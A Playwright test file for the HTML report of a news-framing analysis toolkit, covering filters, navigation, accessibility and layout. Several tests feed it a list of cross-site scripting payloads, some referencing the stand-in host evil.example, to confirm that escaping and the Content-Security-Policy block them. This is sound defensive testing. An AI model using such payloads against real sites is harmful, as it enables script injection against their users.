"""The report as a reader has it: in a real headless Chromium. Skipped where there is none."""

import itertools
import re
from io import BytesIO
from urllib.parse import quote

import numpy as np
import pytest
from matplotlib.image import imread

import toolkit as tk
from toolkit import example_results
from toolkit.text.lexicon import Entry, Lexicon

expect = pytest.importorskip("playwright.sync_api", reason="needs playwright: pip install 'framing-toolkit[dev]'").expect
ABOUT = "about puppet regime (organisation), in a bad light"
EVIL = "<script>alert(1)</script><img src=x onerror=alert(2)> & '/\""


def corpus():
    """30 articles of the Herald, 25 of the Wire, one of an outlet that would like to be markup; 31 + 55 places of two terms."""
    herald = "The puppet regime fell in town {}. “They are thugs,” Ada Hall said."
    wire = "It rained in town {}. Ada Hall said the thugs fled."
    yield from (tk.article_of(herald.format(i), id=f"h{i}", outlet="Herald", title=f"Herald news {i}") for i in range(30))
    yield from (tk.article_of(wire.format(i), id=f"w{i}", outlet="Wire", title=f"Wire news {i}") for i in range(25))
    yield tk.article_of(f"The puppet regime {EVIL} fell.", id=EVIL, outlet=EVIL, title=f"News {EVIL}")


@pytest.fixture(scope="module")
def report(tmp_path_factory):
    own = Lexicon(
        "own",
        "loaded",
        (Entry("puppet regime", "label", neutral=f"government {EVIL}", source="hall"), Entry("thug*", "emotive")),
        version="7",
        sources={"hall": {"citation": f"Hall 2031 {EVIL}"}},
    )
    articles, read = list(corpus()), tk.Annotator([own])
    comparison = tk.compare(tk.score(articles, [own]), resamples=40, min_articles=1)
    path = tmp_path_factory.mktemp("report") / "report.html"
    return tk.report.write(map(read, articles), path, comparison, reader="fast", interactive=False)


def rows(page):
    return page.locator("#articles tbody tr")


def test_filter_by_voice_and_category(visit):
    page = visit("#/articles")
    status = page.locator("#status")
    expect(status).to_have_text("56 articles")
    page.get_by_role("checkbox", name="quotation").check()
    expect(status).to_have_text("30 of 56 articles")
    page.get_by_role("checkbox", name="label").check()
    expect(status).to_have_text("0 of 56 articles")  # no label is in quotation marks
    page.get_by_role("checkbox", name="quotation").uncheck()
    expect(status).to_have_text("31 of 56 articles")
    page.get_by_role("button", name="Clear all filters").click()
    expect(status).to_have_text("56 articles")


def test_filters_hold_for_the_open_article(visit):
    page = visit("#/article/h0")
    expect(page.locator("#view .text .term")).to_have_count(2)
    page.get_by_role("checkbox", name="quotation").check()
    expect(page.locator("#view .term.off")).to_have_text(["puppet regime"])
    expect(page.locator("#status")).to_have_text("1 of 2 loaded terms marked")


def test_rates_are_those_of_the_voices(visit):
    page = visit("#/articles")
    first = rows(page).first.locator("td")
    expect(first).to_have_text(
        ["76.91.0 of 1 in 13 words", "333.31.0 of 1 in 3 words"]
    )  # 3 words of title, 10 of narration; “They are thugs”


def test_a_term_opens_its_entry_and_concordance(visit):
    page = visit("#/article/h0")
    page.locator("#view .term", has_text="puppet regime").click()
    panel = page.get_by_role("dialog")
    expect(panel.get_by_role("heading", level=2)).to_have_text("puppet regime")
    expect(page).to_have_title("puppet regime · Framing report")
    expect(panel.locator("dd")).to_have_text(
        [
            *(f"narration, said by the outlet, {ABOUT}", "label", f"government {EVIL}", f"Hall 2031 {EVIL}", "own 7 ()"),
            f"framing-toolkit {tk.__version__}, fast reader",
        ]
    )
    expect(panel).to_contain_text("31 places in 31 of 56 articles.")
    expect(panel.locator("li")).to_have_count(31)
    expect(panel.locator("li .line").first).to_have_text("The puppet regime fell in town 0. “They are thugs,” Ada Hall said.")


def test_a_concordance_goes_on_and_can_be_narrowed(visit):
    page = visit("#/term/thug*")
    panel = page.get_by_role("dialog")
    expect(panel.get_by_role("status")).to_have_text("50 of 55 places shown")
    expect(panel.locator("li a[href^='#/group']").nth(1)).to_have_text("Wire")  # outlets take turns
    panel.get_by_role("button", name="Show more").click()
    expect(panel.get_by_role("status")).to_have_text("55 of 55 places shown")
    panel.get_by_label("outlet").select_option("Wire (25)")
    expect(panel.get_by_role("status")).to_have_text("25 of 25 places shown")
    panel.get_by_label("voice").select_option("quotation (30)")
    expect(panel.get_by_role("status")).to_have_text("0 of 0 places shown")


def test_a_line_of_the_concordance_leads_to_its_place(visit):
    page = visit("#/term/thug*")
    page.get_by_role("dialog").get_by_role("link", name="Herald news 0").click()
    expect(page.get_by_role("dialog")).to_be_hidden()
    expect(page.get_by_role("heading", level=1)).to_have_text("Herald news 0")
    expect(page.locator(".term.sought")).to_have_text("thugs")
    expect(page.locator(".term.sought")).to_be_focused()


def test_the_bar_of_an_outlet_leads_to_its_articles(visit):
    page = visit()
    page.locator(".bars a", has_text="Herald").click()
    expect(page.get_by_role("heading", level=1)).to_have_text("Herald")
    expect(page.get_by_role("heading", level=1)).to_be_focused()
    expect(page.locator("#status")).to_have_text("30 articles")
    expect(rows(page)).to_have_count(30)
    figures = page.get_by_role("region", name="Figures").first
    expect(figures.get_by_role("row", name=re.compile("^Loaded terms, narration")).locator("td").first).to_have_text("100.0")
    terms = page.locator(".cards table").first.locator("tbody tr")
    expect(terms).to_have_text([re.compile("^puppet regimelabel30–30–––30"), re.compile("^thug[*]emotive30–––30–30")])


@pytest.mark.parametrize("width", [1280, 1220, 900])
def test_no_column_of_the_tables_of_a_group_is_cut_off(visit, width):
    page = visit("#/group/Herald", viewport={"width": width, "height": 800})
    expect(page.locator(".cards table").first).to_be_visible()
    page.locator(".cards td:not(.n)").first.evaluate("cell => { cell.textContent = 'delegitimising'; }")  # the longest category
    assert page.locator(".cards .scroll, .cards table").evaluate_all("all => all.every(e => e.scrollWidth <= e.clientWidth + 1)")


def test_the_id_of_an_article_is_called_so(visit):
    expect(visit("#/article/h0").locator(".byline")).to_have_text(re.compile("id h0$"))
    expect(rows(visit("#/articles")).first).to_contain_text("id h")


def test_search_in_titles_and_texts(visit):
    page = visit("#/articles")
    page.get_by_role("searchbox").fill("wire NEWS 2")
    expect(page.locator("#status")).to_have_text("6 of 56 articles")  # 2, 20 to 24
    page.get_by_role("searchbox").fill("rained in town 7")
    expect(page.locator("#status")).to_have_text("0 of 56 articles")
    page.get_by_label("also in the texts").check()
    expect(page.locator("#status")).to_have_text("1 of 56 articles")
    expect(rows(page)).to_contain_text(["Wire news 7"])


def test_pages_order_and_outlets(visit):
    page = visit("#/articles")
    expect(rows(page)).to_have_count(50)
    page.get_by_role("button", name="Next").click()
    expect(page.locator("#place")).to_have_text("Page 2 of 2")
    expect(rows(page)).to_have_count(6)
    page.get_by_label("Order").select_option("attributed, highest first")
    expect(rows(page).first).to_contain_text("Herald news 0")
    page.locator("#groups summary").click()
    page.get_by_role("checkbox", name="Wire").check()
    expect(rows(page)).to_have_count(25)
    expect(page.locator("#groups summary")).to_have_text("Filter by outlet: 1 chosen")


def test_back_leads_to_the_place_before(visit):
    page = visit("#/articles")
    page.get_by_role("button", name="Next").click()
    page.get_by_role("link", name="Wire news 22").click()
    expect(page).to_have_title("Wire news 22 · Framing report")
    page.locator("#view .text .term").click()
    expect(page.get_by_role("dialog")).to_be_visible()
    page.go_back()
    expect(page.get_by_role("dialog")).to_be_hidden()
    expect(page.get_by_role("heading", level=1)).to_have_text("Wire news 22")
    page.go_back()
    expect(page).to_have_title("Articles · Framing report")
    expect(page.locator("#place")).to_have_text("Page 2 of 2")
    expect(page.get_by_role("link", name="Wire news 22")).to_be_focused()
    page.go_forward()
    expect(page).to_have_title("Wire news 22 · Framing report")


def test_by_keyboard_alone(visit):
    page = visit()

    def tab_to(name):
        for _ in range(40):
            page.keyboard.press("Tab")
            if page.evaluate("document.activeElement.textContent.trim()").startswith(name):
                return
        pytest.fail(f"{name} is not reached")

    page.keyboard.press("Tab")
    expect(page.get_by_role("link", name="Skip to the content")).to_be_focused()
    page.keyboard.press("Enter")
    expect(page.get_by_role("main")).to_be_focused()
    tab_to("Herald")
    page.keyboard.press("Enter")
    expect(page.get_by_role("heading", level=1)).to_have_text("Herald")
    tab_to("Herald news 0")
    page.keyboard.press("Enter")
    expect(page.get_by_role("heading", level=1)).to_be_focused()
    tab_to("puppet regime")
    page.keyboard.press("Enter")
    expect(page.get_by_role("dialog").get_by_role("heading", level=2)).to_be_focused()
    page.keyboard.press("Escape")
    expect(page.get_by_role("dialog")).to_be_hidden()
    expect(page.locator("#view .term", has_text="puppet regime")).to_be_focused()
    expect(page).to_have_title("Herald news 0 · Framing report")


def test_hostile_text_is_text(visit):
    page = visit()
    page.locator(".bars a", has_text="<script>").click()
    expect(page.get_by_role("heading", level=1)).to_have_text(EVIL)
    page.get_by_role("link", name="News <script>").click()
    expect(page.get_by_role("heading", level=1)).to_have_text(f"News {EVIL}")
    expect(page.locator("#view .text p")).to_have_text(f"The puppet regime {EVIL} fell.")
    page.locator("#view .text .term").click()
    expect(page.get_by_role("dialog")).to_contain_text("Hall 2031 <script>")
    assert page.locator("img").count() == 0


PAYLOADS = (
    "<script>window.ran = 1</script>",
    "</script><script>window.ran = 1</script>",
    "<img src='http://evil.example/x.png' onerror='window.ran = 1'>",
    "'\"><svg onload='window.ran = 1'>",
    "<a href='javascript:window.ran = 1'>read on</a>",
    "javascript:window.ran=1",
    "<iframe srcdoc='<script>parent.ran = 1</script>'></iframe>",
    "<base href='http://evil.example/'><meta http-equiv='refresh' content='0;url=http://evil.example/'>",
    "</title></style></template><style>@import 'http://evil.example/x.css';</style>",
    "<!-- --!> <![CDATA[ {{ 7 * 7 }} ${window.ran = 1} \u2028",
)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """A report in which everything that a stranger writes, of articles and of the lexicon, would like to be run."""
    entries = tuple(Entry(f"regime{n}", "label", neutral=text, note=text, source=f"s{n}") for n, text in enumerate(PAYLOADS))
    sources = {f"s{n}": {"citation": text, "url": "javascript:window.ran=1", "licence": text} for n, text in enumerate(PAYLOADS)}
    own = Lexicon("own", "loaded", entries, title=PAYLOADS[0], version=PAYLOADS[1], sources=sources)
    articles = [
        tk.Article(
            f"{n} {text}",
            f"The regime{n} fell. {text} “It is the regime{n},” {text} minister Ada Hall of {text} said.\n{text}",
            outlet=text,
            title=f"The regime{n} {text}",
            url=("javascript:window.ran=1", "http://evil.example/")[n % 2],
            event=text,
            byline=text,
            labels={text: text},
        )
        for n, text in enumerate(PAYLOADS)
    ]
    comparison = tk.compare(tk.score(articles, [own]), resamples=40, min_articles=1)
    read = tk.Annotator([own])
    path = tmp_path_factory.mktemp("hostile") / "report.html"
    return tk.report.write(map(read, articles), path, comparison, lexicons=PAYLOADS)


DANGEROUS = """() => [...document.querySelectorAll("*")].filter(node =>
    ["IMG", "IFRAME", "OBJECT", "EMBED", "BASE", "LINK"].includes(node.tagName)
    || [...node.attributes].some(({ name, value }) => /^on/i.test(name) || name === "srcdoc"
        || (["href", "src", "action", "formaction"].includes(name) && !value.startsWith("#"))
    )).map(node => node.outerHTML)"""


@pytest.mark.parametrize("script", [True, False])
def test_nothing_that_a_stranger_wrote_is_run_or_fetched(visit, hostile, script):
    addresses = ["#/", "#/articles", "#/terms", *(f"#/term/regime{n}" for n in range(len(PAYLOADS)))]
    addresses += [f"#/group/{quote(text, safe='')}" for text in PAYLOADS]
    addresses += [f"#/article/{quote(f'{n} {text}', safe='')}" for n, text in enumerate(PAYLOADS)]
    page = visit("#/", hostile, java_script_enabled=script)
    for address in addresses if script else ():
        page.goto(hostile.as_uri() + address)
        expect(page).not_to_have_title(re.compile("Not found"))
        assert page.evaluate("window.ran") is None, address
        assert page.evaluate(DANGEROUS) == [], address
    assert page.locator("script:not([type])").count() == 1  # its own


def test_the_page_forbids_every_script_but_its_own_and_every_request(browser, hostile):
    """Also where something got past the escaping: the Content-Security-Policy stops it."""
    context = browser.new_context()
    page, fetched = context.new_page(), []
    page.on("requestfailed", lambda request: fetched.append((request.url, request.failure)))
    page.on("requestfinished", lambda request: fetched.append((request.url, "finished")))
    page.goto(hostile.as_uri())
    page.wait_for_selector("html[data-view]")
    page.evaluate(
        """() => {
            for (const [tag, fields] of [
                ["script", { textContent: "window.ran = 1" }], ["script", { src: "http://evil.example/x.js" }],
                ["img", { src: "http://evil.example/x.png" }], ["iframe", { src: "http://evil.example/" }],
                ["link", { rel: "stylesheet", href: "http://evil.example/x.css" }],
            ]) document.body.append(Object.assign(document.createElement(tag), fields));
            document.body.insertAdjacentHTML("beforeend", "<button id='evil' onclick='window.ran = 1'>x</button>");
            document.getElementById("evil").click();
            return fetch("http://evil.example/").catch(() => null);
        }"""
    )
    page.wait_for_timeout(200)
    assert page.evaluate("window.ran") is None
    assert {why for url, why in fetched if "evil.example" in url} == {"csp"}
    context.close()


def test_unknown_addresses_say_so(visit):
    for address in ("#/article/none", "#/group/none", "#/nothing", "#/%E0%A4%A"):
        expect(visit(address).get_by_role("heading", level=1)).to_have_text("Not found")
    expect(visit("#/term/none").get_by_role("dialog")).to_contain_text("occurs in no article")


def test_terms_are_listed(visit):
    page = visit("#/terms")
    expect(page.locator("#view tbody tr")).to_have_text(
        [re.compile("^thug[*]emotive55––2530–55"), re.compile("^puppet regimelabel31–31–––31")]
    )
    page.get_by_role("checkbox", name="narration").check()
    expect(page.locator("#view tbody tr")).to_have_count(1)


def test_dark_and_light(visit):
    def paper(page):
        return page.evaluate("getComputedStyle(document.body).backgroundColor")

    light, dark = visit(color_scheme="light"), visit(color_scheme="dark")
    assert (paper(light), paper(dark)) == ("rgb(255, 255, 255)", "rgb(23, 24, 26)")
    light.get_by_role("button", name="Dark").click()
    assert paper(light) == "rgb(23, 24, 26)"
    expect(light.get_by_role("button", name="Dark")).to_have_attribute("aria-pressed", "true")


def test_print(visit):
    page = visit("#/article/h0", color_scheme="dark")
    page.emulate_media(media="print")
    for part in (".top", "#filters"):
        expect(page.locator(part)).to_be_hidden()
    expect(page.locator("#view .text")).to_be_visible()
    assert page.evaluate("getComputedStyle(document.body).backgroundColor") == "rgb(255, 255, 255)"
    assert page.pdf().startswith(b"%PDF")


def test_voices_differ_without_colour(visit):
    page = visit("#/articles")
    styles = page.locator("#by-voice .term").evaluate_all("nodes => nodes.map(n => getComputedStyle(n).textDecorationStyle)")
    assert sorted(styles) == ["dashed", "dotted", "double", "solid", "wavy"]


def test_narrow_screens_do_not_scroll_sideways(visit):
    for address in ("#/", "#/articles", "#/terms", "#/group/Herald", "#/article/h0", "#/term/thug*"):
        page = visit(address, viewport={"width": 390, "height": 800})
        assert page.evaluate("document.documentElement.scrollWidth") <= 390, address


def edge(box):
    """How bright the right edge of an element is, from 0 to 1: the median over its height."""
    return float(np.median(imread(BytesIO(box.screenshot()), format="png")[:, -2, :3]))


@pytest.mark.parametrize("width", [390, 600])
def test_a_shade_shows_where_a_table_goes_on(visit, width):
    box = visit("#/", viewport={"width": width, "height": 800}).locator(".overview").last.locator("..")
    assert box.evaluate("box => box.scrollWidth > box.clientWidth")
    assert edge(box) < 0.9
    box.evaluate("box => box.scrollTo(box.scrollWidth, 0)")
    assert edge(box) == 1


def test_a_small_report_is_read_and_printed_without_script(visit, tmp_path):
    articles = list(corpus())[:3]
    path = tk.report.write(map(tk.annotate, articles), tmp_path / "small.html", lexicons=["none"])
    page = visit("", path, java_script_enabled=False)
    expect(page.locator("#readable article")).to_have_count(3)
    expect(page.locator("#readable .text").first).to_have_text(articles[0].text)
    page = visit("#/", path)
    expect(page.locator("#readable")).to_be_hidden()
    expect(rows(page)).to_have_count(3)
    page.emulate_media(media="print")
    expect(page.locator("#readable")).to_be_visible()
    expect(page.locator("#list")).to_be_hidden()


def test_a_large_report_says_that_it_needs_script(visit):
    page = visit("#/", java_script_enabled=False)
    expect(page.locator("#readable")).to_contain_text("need JavaScript")
    expect(page.locator(".bars li")).to_have_count(3)


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_no_fault_of_accessibility_is_found(visit, scheme):
    """Against the rules of axe-core, contrast among them."""
    axe = pytest.importorskip("axe_playwright_python.sync_playwright").Axe()
    for address in ("#/", "#/terms", "#/group/Herald", "#/article/h0", "#/term/thug*"):
        page = visit(address, color_scheme=scheme)
        if "term/" in address:
            page.wait_for_selector("#panel li")
        violations = axe.run(page).response["violations"]
        assert [(rule["id"], rule["nodes"][0]["html"], rule["nodes"][0]["failureSummary"]) for rule in violations] == [], address


def test_harm_and_targets_are_told_in_tooltips_tables_and_the_concordance(visit, tmp_path):
    article = tk.article_of(f"Soldiers killed two boys {EVIL}. Ada Hall was heroic.", id="a", title="Army raid kills 12")
    page = visit("#/article/a", tk.report.write([tk.annotate(article)], tmp_path / "report.html"))
    harm = page.locator("#view :is(h1, .text) .harm")
    expect(harm).to_have_text(["raid", "kills", "killed"])
    expect(harm.nth(2)).to_have_attribute("title", re.compile("by whom: Soldiers · to whom: two boys"))
    term = page.locator("#view .text .term")
    expect(term).to_have_attribute("title", re.compile(r"about Ada Hall \(person\), in a good light"))
    page.locator("#view aside details").evaluate_all("all => all.forEach(part => { part.open = true; })")
    rows = page.locator("#view aside table tbody th")
    expect(rows.filter(has_text="person; “heroic”")).to_have_count(1)
    expect(rows.filter(has_text="active; narration")).to_have_count(1)
    term.click()
    expect(page.locator("#entry")).to_contain_text("narration, said by the outlet, about Ada Hall (person), in a good light")
    expect(page.locator("#entry .kwic")).to_contain_text("about Ada Hall")


def test_the_page_of_a_group_tells_whom_it_portrays(visit, tmp_path):
    documents = [tk.annotate(tk.article_of("It rained.", id=name, outlet=name)) for name in ("Wire", "Herald")]
    comparison = tk.compare(tk.score([document.article for document in documents]), resamples=40)
    portrayals = [example_results.portrayal()]
    page = visit("#/group/Wire", tk.report.write(documents, tmp_path / "report.html", comparison, portrayals=portrayals))
    table = page.get_by_role("region", name="Loaded terms about actors").locator("table")
    expect(table.locator("tbody tr")).to_have_text(["Ada Hallfew articles142.9––3"])


def test_one_article_opens_as_the_article(visit, tmp_path):
    article = tk.article_of("The puppet regime fell. “They are thugs,” Ada Hall said.", id="a", title="Regime falls")
    path = tk.report.write([tk.annotate(article)], tmp_path / "one.html")
    for options in ({}, {"java_script_enabled": False}):
        page = visit("", path, **options)
        expect(page.get_by_role("heading", level=1)).to_have_text("Regime falls")
        expect(page.locator(".text").filter(visible=True)).to_have_text(article.text)
        expect(page.get_by_role("navigation", name="Report").get_by_role("link")).to_have_text(["Article", "Terms"])
        expect(page.locator("#articles tr").filter(visible=True)).to_have_count(0)
    page = visit("", path, viewport={"width": 1400, "height": 900})
    text = page.locator("#view .text")
    assert text.bounding_box()["y"] < 300
    assert text.bounding_box()["width"] < 700  # a line of some eighty characters
    expect(page).to_have_title("Regime falls · Framing report")
    page.locator("#view .text .term").first.click()
    page.get_by_role("dialog").get_by_role("button", name="Close").click()
    expect(page.locator("#view .text .term").first).to_be_focused()
    expect(page.get_by_role("link", name="Article")).to_have_attribute("aria-current", "page")


def test_what_stands_in_tooltips_is_also_told_in_tables_that_lead_to_the_place(visit):
    page = visit("#/article/h0", viewport={"width": 390, "height": 800})
    terms = page.locator("#view .terms")
    expect(terms.locator("tr").nth(1)).to_be_hidden()
    terms.locator("summary").click()
    first = terms.locator("tbody tr").first
    for told in ("label", f"neutral: government {EVIL}", "the outlet", "narration", ABOUT):
        expect(first).to_contain_text(told)
    terms.get_by_role("link", name="thugs").click()
    expect(page.locator(".term.sought")).to_have_text("thugs")
    expect(page.locator(".term.sought")).to_be_focused()


def test_the_filters_count_the_terms_of_the_article_that_is_open(visit):
    page = visit("#/articles")
    expect(page.locator("#by-voice label")).to_have_text(
        ["headline 0", "narration 31", "paraphrase 25", "quotation 30", "scare quotes 0"]
    )
    page.get_by_role("link", name="Herald news 0").click()
    expect(page.locator("#by-voice label")).to_have_text(
        ["headline 0", "narration 1", "paraphrase 0", "quotation 1", "scare quotes 0"]
    )


@pytest.mark.parametrize("width", [390, 700, 1400])
def test_a_hit_is_never_broken_and_stands_between_its_neighbours(visit, tmp_path, width):
    before, after = (
        "It rained on the hills and the plains and the towns all week long when",
        "for good after years of rain and mud.",
    )
    article = tk.article_of(f"{before} the puppet regime fell {after} " * 2, id="a")
    path = tk.report.write([tk.annotate(article)], tmp_path / "one.html")
    page = visit("#/term/puppet regime", path, viewport={"width": width, "height": 800})
    line = page.locator("#panel .line").nth(1)
    expect(line.locator(".left")).to_contain_text("…")
    assert not re.search(r"…\w|\w…", line.text_content())  # whole words
    boxes = line.evaluate(
        "line => ['.left', '.term', '.right'].map(part => [...line.querySelector(part).getClientRects()]"
        ".map(box => [box.left, box.right, box.top, box.bottom]))"
    )
    assert len(boxes[1]) == 1
    [(left, right, *_)] = boxes[1]
    assert 0 <= left < right <= width
    if width > 768:
        assert line.bounding_box()["height"] < 30  # one line
        middles = page.locator("#panel .line .term").evaluate_all(
            "all => all.map(t => t.getBoundingClientRect()).map(b => b.left + b.right)"
        )
        assert max(middles) - min(middles) < 2  # aligned
    assert boxes[0][-1][1] == pytest.approx(left, abs=8)
    assert boxes[2][0][0] == pytest.approx(right, abs=8)


LONG = "Donaudampfschifffahrtsgesellschaftskapitänsmützenhersteller" * 3


def test_long_names_do_not_make_a_phone_scroll_sideways(visit, tmp_path):
    text = f"President {LONG} said the puppet regime fell. {LONG} shot two {LONG}. http://example.org/{LONG}"
    articles = [tk.article_of(text, id=f"{LONG}{i}", title=f"{LONG} fell", outlet=f"{LONG}{i}") for i in range(2)]
    one = tk.report.write([tk.annotate(articles[0])], tmp_path / "one.html")
    comparison = tk.compare(tk.score(articles), resamples=40)
    two = tk.report.write(map(tk.annotate, articles), tmp_path / "two.html", comparison, lexicons=[LONG], models=[LONG])
    of_two = ("#/", "#/articles", f"#/article/{LONG}0", f"#/group/{LONG}0")
    for path, address in (*((two, address) for address in of_two), (one, "#/"), (one, "#/terms"), (one, "#/term/puppet regime")):
        page = visit(quote(address, safe="#/"), path, viewport={"width": 390, "height": 800})
        page.locator("details").evaluate_all("all => all.forEach(part => { part.open = true; })")
        assert page.evaluate("document.scrollingElement.scrollWidth") <= 390, (path.name, address)
        assert page.evaluate("document.getElementById('panel').scrollWidth") <= 390, (path.name, address)


def test_the_overview_fits_a_screen_of_1400_pixels(visit, tmp_path):
    articles = list(tk.read_articles(tk.EXAMPLE))[:10]
    comparison = tk.compare(tk.score(articles), resamples=40)
    path = tk.report.write(map(tk.annotate, articles), tmp_path / "report.html", comparison)
    page = visit("#/", path, viewport={"width": 1400, "height": 900})
    for box in page.locator("#overview .scroll").all():
        assert box.evaluate("box => box.scrollWidth <= box.clientWidth")
    assert page.evaluate("document.scrollingElement.scrollWidth") <= 1400


def test_the_foot_says_how_often_the_reader_is_right(visit):
    page = visit("#/")
    expect(page.locator("footer")).to_contain_text(f"Made with framing-toolkit {tk.__version__}, fast reader; lexicons: own 7")
    expect(page.locator("#right")).to_be_hidden()
    page.get_by_role("link", name="how often the toolkit misreads a text").click()
    expect(page.locator("#right")).to_be_visible()
    expect(page.get_by_role("heading", level=1)).to_contain_text("Framing report")


CONTRAST = """() => {
    const canvas = Object.assign(document.createElement("canvas"), { width: 1, height: 1 })
        .getContext("2d", { willReadFrequently: true });
    const light = colour => {
        canvas.fillStyle = colour;
        canvas.fillRect(0, 0, 1, 1);
        const [r, g, b] = [...canvas.getImageData(0, 0, 1, 1).data].map(part => part / 255)
            .map(part => part <= 0.04045 ? part / 12.92 : ((part + 0.055) / 1.055) ** 2.4);
        return 0.2126 * r + 0.7152 * g + 0.0722 * b;
    };
    const paper = light(getComputedStyle(document.body).backgroundColor);
    const against = colour => (Math.max(light(colour), paper) + 0.05) / (Math.min(light(colour), paper) + 0.05);
    const style = (selector, name) => getComputedStyle(document.querySelector(selector))[name];
    return {
        bar: against(style(".swatch", "backgroundColor")), reach: against(style(".track .reach", "backgroundColor")),
        paraphrase: against(style(".dot.paraphrase", "borderColor")), quotation: against(style(".dot.quotation", "borderColor")),
        field: against(style("#find", "borderColor")),
    };
}"""


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_what_is_drawn_stands_out(visit, scheme):
    """Graphics and the edges of fields have a contrast of 3 to 1 (WCAG 2.2, 1.4.11)."""
    measured = visit("#/", color_scheme=scheme).evaluate(CONTRAST)
    assert min(measured.values()) >= 3, measured


def test_headings_go_down_one_step_at_a_time_and_tables_have_captions_and_scopes(visit):
    for address in ("#/", "#/articles", "#/terms", "#/group/Herald", "#/article/h0", "#/term/thug*"):
        page = visit(address)
        levels = page.locator("h1, h2, h3, h4").filter(visible=True).evaluate_all("all => all.map(h => +h.tagName[1])")
        assert levels[0] == 1, address
        assert all(after - before <= 1 for before, after in itertools.pairwise(levels)), (address, levels)
        assert page.locator("table:not(:has(> caption)), th:not([scope])").count() == 0, address


def test_many_outlets_are_folded_up(visit, tmp_path):
    articles = [tk.article_of("The puppet regime fell.", id=str(n), outlet=f"Outlet {n}") for n in range(33)]
    comparison = tk.compare(tk.score(articles), resamples=40, min_articles=1, copies="keep")
    page = visit("#/", tk.report.write(map(tk.annotate, articles), tmp_path / "many.html", comparison, interactive=False))
    expect(page.locator(".bars li").filter(visible=True)).to_have_count(30)
    expect(page.locator(".overview tr").filter(visible=True)).to_have_count(0)
    page.get_by_text("3 more, with lower figures").click()
    expect(page.locator(".bars li").filter(visible=True)).to_have_count(33)


def test_a_term_of_two_lexicons_is_one_row(visit, tmp_path):
    lexicons = [Lexicon(name, "loaded", (Entry("regime", "label", source=name),)) for name in ("one", "two")]
    articles = [tk.article_of("The regime fell. The regime rose.", id=str(n)) for n in range(2)]
    documents = [tk.Annotator([lexicon])(article) for lexicon, article in zip(lexicons, articles, strict=True)]
    page = visit("#/terms", tk.report.write(documents, tmp_path / "report.html"))
    expect(page.locator("#view tbody tr")).to_have_text(["regimelabel4–4–––2"])
